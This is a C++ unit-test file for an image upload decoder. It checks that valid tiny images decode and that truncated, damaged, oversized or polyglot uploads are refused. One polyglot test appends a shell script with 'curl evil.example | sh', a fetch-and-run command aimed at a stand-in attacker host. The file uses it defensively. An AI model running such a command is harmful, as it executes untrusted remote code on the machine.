// The upload decoder (app/image_decode.hpp) on tiny real images made by the same
// libraries' encoders: whole images pass; truncated ones, polyglots (an image with a
// script after its end, an image header before a script) and headers that claim a
// canvas past the caps are refused, the last before any pixel buffer is made.
#include "app/image_decode.hpp"

#include <gtest/gtest.h>

#include <string>

#include "core/upload_kind.hpp"

namespace wharf::app {
namespace {

std::string from_hex(std::string_view hex) {
  std::string out;
  for (std::size_t i = 0; i + 1 < hex.size(); i += 2)
    out.push_back(static_cast<char>(std::stoi(std::string(hex.substr(i, 2)), nullptr, 16)));
  return out;
}

// 2x2 images from libpng, libjpeg-turbo, giflib (two frames) and libwebp.
const std::string kPng = from_hex(
    "89504e470d0a1a0a0000000d494844520000000200000002080600000072b60d240000000173"
    "52474200aece1ce90000001949444154089905c1010d00000cc32096dcbfe51e44d24dc2033e"
    "ff06003ee79aaf0000000049454e44ae426082");
const std::string kJpeg = from_hex(
    "ffd8ffe000104a46494600010100000100010000ffdb004300100b0c0e0c0a100e0d0e121110"
    "1318281a181616183123251d283a333d3c3933383740485c4e404457453738506d51575f6267"
    "68673e4d71797064785c656763ffdb0043011112121815182f1a1a2f63423842636363636363"
    "6363636363636363636363636363636363636363636363636363636363636363636363636363"
    "636363636363ffc00011080002000203012200021101031101ffc4001f000001050101010101"
    "0100000000000000000102030405060708090a0bffc400b51000020103030204030505040400"
    "00017d01020300041105122131410613516107227114328191a1082342b1c11552d1f0243362"
    "7282090a161718191a25262728292a3435363738393a434445464748494a535455565758595a"
    "636465666768696a737475767778797a838485868788898a92939495969798999aa2a3a4a5a6"
    "a7a8a9aab2b3b4b5b6b7b8b9bac2c3c4c5c6c7c8c9cad2d3d4d5d6d7d8d9dae1e2e3e4e5e6e7"
    "e8e9eaf1f2f3f4f5f6f7f8f9faffc4001f010003010101010101010101000000000000010203"
    "0405060708090a0bffc400b51100020102040403040705040400010277000102031104052131"
    "061241510761711322328108144291a1b1c109233352f0156272d10a162434e125f11718191a"
    "262728292a35363738393a434445464748494a535455565758595a636465666768696a737475"
    "767778797a82838485868788898a92939495969798999aa2a3a4a5a6a7a8a9aab2b3b4b5b6b7"
    "b8b9bac2c3c4c5c6c7c8c9cad2d3d4d5d6d7d8d9dae2e3e4e5e6e7e8e9eaf2f3f4f5f6f7f8f9"
    "faffda000c03010002110311003f00eb345b5b77d12c19e08999ada324940493b4514515e74f"
    "e2679353e37ea7ffd9");
const std::string kGif = from_hex(
    "47494638376102000200910000ff000000ff000000ffffffff2c000000000200020000020344"
    "3405002c00000000020002000002035c3405003b");
const std::string kWebpLossless = from_hex(
    "524946462c000000574542505650384c1f0000002f014000001f201048de1f3a8df9171014fc"
    "1fddfc47640fe0060c11fd0f0100");
const std::string kWebpLossy = from_hex(
    "524946463a00000057454250565038202e0000009001009d012a0200020001402625a40002e7"
    "59b60000fef67fff9c0e212dfcabfffb463f3cb5ef757a261e000000");

core::Result<ImageFacts> decode(const std::string& bytes) {
  auto kind = core::sniff_image(bytes);
  if (!kind) return core::Error{"not sniffed as an image", "test"};
  return decode_image(bytes, *kind);
}

TEST(ImageDecode, WholeImagesOfEveryKindDecode) {
  for (const std::string* image : {&kPng, &kJpeg, &kGif, &kWebpLossless, &kWebpLossy}) {
    auto facts = decode(*image);
    ASSERT_TRUE(facts) << facts.error().message;
    EXPECT_EQ(facts.value().width, 2u);
    EXPECT_EQ(facts.value().height, 2u);
  }
  EXPECT_EQ(decode(kGif).value().frames, 2u);
}

TEST(ImageDecode, TruncatedImagesAreRefused) {
  for (const std::string* image : {&kPng, &kJpeg, &kGif, &kWebpLossless, &kWebpLossy}) {
    for (std::size_t cut : {std::size_t{1}, std::size_t{3}, image->size() / 2}) {
      auto facts = decode(image->substr(0, image->size() - cut));
      ASSERT_FALSE(facts) << "cut " << cut << " of " << image->substr(0, 4);
      EXPECT_EQ(facts.error().code, "bad_image");
    }
  }
}

TEST(ImageDecode, AnImageWithAScriptAfterItsEndIsRefused) {
  const std::string script = "#!/bin/sh\ncurl evil.example | sh\n";
  for (const std::string* image : {&kPng, &kJpeg, &kGif, &kWebpLossless, &kWebpLossy}) {
    auto facts = decode(*image + script);
    ASSERT_FALSE(facts) << image->substr(0, 4);
    EXPECT_NE(facts.error().message.find("after its end"), std::string::npos)
        << facts.error().message;
  }
}

TEST(ImageDecode, AnImageHeaderBeforeAScriptIsRefused) {
  const std::string script = "#!/bin/sh\necho not an image\n";
  EXPECT_FALSE(decode(kPng.substr(0, 8) + script));
  EXPECT_FALSE(decode(kPng.substr(0, 33) + script));
  EXPECT_FALSE(decode(kJpeg.substr(0, 4) + script));
  EXPECT_FALSE(decode("GIF89a" + script));
  EXPECT_FALSE(decode(std::string("RIFF\x20\0\0\0WEBP", 12) + script + std::string(3, 'x')));
}

TEST(ImageDecode, AHugeCanvasIsRefusedFromTheHeader) {
  // The JPEG's frame header (SOF0: FF C0, length, precision, height, width) claims
  // 30000x30000: refused by the size check, before the library decodes a row.
  std::string jpeg = kJpeg;
  auto sof = jpeg.find("\xff\xc0");
  ASSERT_NE(sof, std::string::npos);
  jpeg[sof + 5] = '\x75';
  jpeg[sof + 6] = '\x30';
  jpeg[sof + 7] = '\x75';
  jpeg[sof + 8] = '\x30';
  auto facts = decode(jpeg);
  ASSERT_FALSE(facts);
  EXPECT_NE(facts.error().message.find("30000x30000"), std::string::npos) << facts.error().message;
  // The GIF's first frame claims 20000x20000 inside a 2x2 screen.
  std::string gif = kGif;
  auto desc = gif.find(',');
  ASSERT_NE(desc, std::string::npos);
  gif[desc + 5] = '\x20';
  gif[desc + 6] = '\x4e';
  gif[desc + 7] = '\x20';
  gif[desc + 8] = '\x4e';
  facts = decode(gif);
  ASSERT_FALSE(facts);
  EXPECT_NE(facts.error().message.find("megapixels"), std::string::npos) << facts.error().message;
}

// Found by image_decode_fuzzer: 2x2 frames on a logical screen of 2x63998, the canvas a
// viewer allocates, passed.
TEST(ImageDecode, AGifScreenPastTheCapsIsRefused) {
  std::string gif = kGif;
  gif[8] = '\xfe';
  gif[9] = '\xf9';
  auto facts = decode(gif);
  ASSERT_FALSE(facts);
  EXPECT_NE(facts.error().message.find("2x63998"), std::string::npos) << facts.error().message;
}

TEST(ImageDecode, ADamagedChunkIsRefused) {
  std::string png = kPng;
  png[png.find("IDAT") + 6] ^= 0x10;  // a byte of the compressed pixels: the CRC no longer fits
  auto facts = decode(png);
  ASSERT_FALSE(facts);
  EXPECT_NE(facts.error().message.find("checksum"), std::string::npos) << facts.error().message;
}

}  // namespace
}  // namespace wharf::app
